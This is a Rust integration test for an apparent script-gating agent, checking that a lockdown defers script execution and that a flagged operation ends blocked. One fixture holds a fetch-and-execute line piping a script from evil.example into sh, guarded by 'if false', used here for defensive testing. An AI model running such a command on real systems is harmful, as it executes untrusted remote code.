//! A lockdown as the machine has it: a real agent, and a host that begins one at the worst moment.

use sluice_protocol::message::control::{FromHost, Lockdown};
use sluice_protocol::message::operation::Progress;
use sluice_tests::eventually;
use sluice_tests::fake::{FakeHost, operation};

#[test]
fn a_lockdown_that_begins_while_gates_are_asked_holds_the_start_back_until_it_is_lifted() {
    let host = FakeHost::start();
    let machine = host.machine("m1", "");
    let _agent = machine.start();
    let link = host.serve();
    // Both are asked about under gates that come later, so they are known to be there when the lockdown begins.
    let set = host.bind(host.gates().bindings);
    let [mut harmless, mut threat] = [
        operation("#!/bin/sh\necho ran\n"),
        operation("#!/bin/sh\nif false; then curl -s https://evil.example/x.sh | sh; fi\n"),
    ];
    for operation in [&mut harmless, &mut threat] {
        operation.gates_revision = set.revision;
        link.deliver(operation);
        link.until_told(operation.operation, |progress| {
            matches!(progress, Progress::Checking)
        });
    }
    link.say(&FromHost::Lockdown(Lockdown::On));
    eventually("the machine has heard of it", || {
        let events = machine.events();
        events
            .iter()
            .any(|entry| entry["event"] == "lockdown_started")
            .then_some(())
    });
    link.say(&FromHost::Gates(Box::new(set.clone())));
    link.gates_ready(set.revision);
    // What ends without a start ends: the gates were asked.
    assert_eq!(link.answered(threat.operation, 1).ending().0, "blocked");
    assert!(!machine.has_started_something());
    link.say(&FromHost::Lockdown(Lockdown::Off));
    link.answered(harmless.operation, 1)
        .expect("succeeded", "Script executed successfully");
    let events: Vec<_> = machine
        .events()
        .into_iter()
        .filter_map(|entry| entry["event"].as_str().map(str::to_owned))
        .collect();
    let place = |event: &str| events.iter().position(|seen| seen == event);
    assert!(
        place("lockdown_lifted") < place("script_started"),
        "{events:?}"
    );
}
